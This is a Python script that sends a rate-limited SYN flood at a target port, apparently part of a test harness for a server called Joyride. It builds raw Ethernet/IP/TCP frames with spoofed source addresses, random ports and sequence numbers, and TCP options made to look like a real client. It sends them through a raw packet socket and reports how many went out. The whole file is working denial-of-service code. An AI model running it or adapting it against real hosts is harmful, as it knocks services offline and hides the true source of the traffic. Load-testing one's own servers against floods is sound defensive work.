# A SYN flood from the peer host: SYNs to Joyride's PORT from spoofed sources (198.18.0.3-254,
# never the peer's own address, random ports and ISNs, seeded), RATE per second for SECONDS,
# through an AF_PACKET socket. Prints {"sent": n, "secs": t}.
# Usage: synflood.py IFACE SRCMAC DSTMAC DST PORT SECONDS RATE SEED
import json
import random
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True  # importing _inet leaves no __pycache__ in the checkout
from _inet import csum  # noqa: E402

iface, srcmac, dstmac, dst, port, secs, rate, seed = sys.argv[1:9]
port, secs, rate = int(port), float(secs), int(rate)
R = random.Random(int(seed))
smac = bytes.fromhex(srcmac.replace(":", ""))
dmac = bytes.fromhex(dstmac.replace(":", ""))
dip = socket.inet_aton(dst)


def syn():
    sip = bytes([198, 18, 0, R.randrange(3, 255)])
    # MSS 1460, SACK permitted, timestamps, window scale 7: what a real client sends
    opts = (b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + struct.pack("!I", R.getrandbits(32)) +
            b"\x00\x00\x00\x00\x01\x03\x03\x07")
    th = struct.pack("!HHIIBBHHH", R.randrange(1024, 65536), port, R.getrandbits(32), 0,
                     (20 + len(opts)) // 4 << 4, 0x02, 64240, 0, 0) + opts
    ph = sip + dip + struct.pack("!BBH", 0, 6, len(th))
    th = th[:16] + struct.pack("!H", csum(ph + th)) + th[18:]
    ih = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(th), R.getrandbits(16), 0x4000, 64, 6,
                     0, sip, dip)
    ih = ih[:10] + struct.pack("!H", csum(ih)) + ih[12:]
    return dmac + smac + b"\x08\x00" + ih + th


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
t0 = time.monotonic()
n = 0
while True:
    now = time.monotonic() - t0
    if now >= secs:
        break
    due = int(now * rate)
    while n < due:
        s.send(syn())
        n += 1
    time.sleep(0.002)
print(json.dumps({"sent": n, "secs": time.monotonic() - t0}))
